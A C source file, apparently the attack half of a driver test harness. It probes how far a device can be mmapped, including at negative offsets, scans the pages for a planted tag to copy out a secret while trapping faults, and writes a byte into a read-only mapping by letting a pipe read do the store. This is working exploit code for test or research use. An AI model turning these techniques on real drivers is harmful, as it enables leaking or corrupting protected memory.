// SPDX-License-Identifier: GPL-2.0-only
/*
 * attack.c - finds out first how far the driver lets itself be mapped, then maps
 * it all at once, with a handler for pages that cannot be touched; lets the
 * kernel do the store.
 */
#include "attack.h"

#include <errno.h>
#include <setjmp.h>
#include <signal.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

static sigjmp_buf denied;

static void on_fault(int sig)
{
	siglongjmp(denied, sig);
}

static void *window(int fd, long first, long pages)
{
	long page = sysconf(_SC_PAGESIZE);

	return mmap(NULL, pages * page, PROT_READ, MAP_SHARED, fd, first * page);
}

/* The most pages that can be had from first on, or up to it (sign -1). */
static long reach(int fd, long first, int sign)
{
	long page = sysconf(_SC_PAGESIZE), have = 0, step;

	for (step = sysconf(_SC_PHYS_PAGES); step; step /= 2) {
		long pages = have + step;
		void *p = window(fd, sign < 0 ? first - pages : first, pages);

		if (p == MAP_FAILED)
			continue;
		munmap(p, pages * page);
		have = pages;
	}
	return have;
}

static int search_in(int fd, long first, long pages, const unsigned char *tag,
		     unsigned char *secret)
{
	long page = sysconf(_SC_PAGESIZE);
	unsigned char *p = pages ? window(fd, first, pages) : MAP_FAILED;
	volatile long i;
	volatile int found = 0;

	if (p == MAP_FAILED)
		return 0;
	for (i = 0; i < pages && !found; i++) {
		if (sigsetjmp(denied, 0))
			continue;
		if (memcmp(p + i * page, tag, ATTACK_TAG))
			continue;
		memcpy(secret, p + i * page + ATTACK_TAG, ATTACK_SECRET);
		found = 1;
	}
	munmap(p, pages * page);
	return found;
}

int attack_search(int fd, const unsigned char tag[ATTACK_TAG],
		  unsigned char secret[ATTACK_SECRET])
{
	/* Nothing is blocked in the handler: no mask is to be saved for each page. */
	struct sigaction on = { .sa_handler = on_fault, .sa_flags = SA_NODEFER }, segv, bus;
	long above = reach(fd, 0, 1), below = reach(fd, -1, -1);
	int found;

	sigaction(SIGSEGV, &on, &segv);
	sigaction(SIGBUS, &on, &bus);
	found = search_in(fd, -1 - below, below, tag, secret) ||
		search_in(fd, 0, above, tag, secret);
	sigaction(SIGSEGV, &segv, NULL);
	sigaction(SIGBUS, &bus, NULL);
	return found ? 0 : -ENOENT;
}

int attack_store(int fd, size_t at, unsigned char value)
{
	size_t page = sysconf(_SC_PAGESIZE);
	char *p = mmap(NULL, page, PROT_READ, MAP_SHARED, fd, at & ~(page - 1));
	int ends[2] = { -1, -1 }, err = 0;

	if (p == MAP_FAILED)
		return -errno;
	if (mprotect(p, page, PROT_READ | PROT_WRITE) || pipe(ends) ||
	    write(ends[1], &value, 1) != 1 || read(ends[0], p + (at & (page - 1)), 1) != 1)
		err = -errno;
	if (ends[0] >= 0) {
		close(ends[0]);
		close(ends[1]);
	}
	munmap(p, page);
	return err;
}
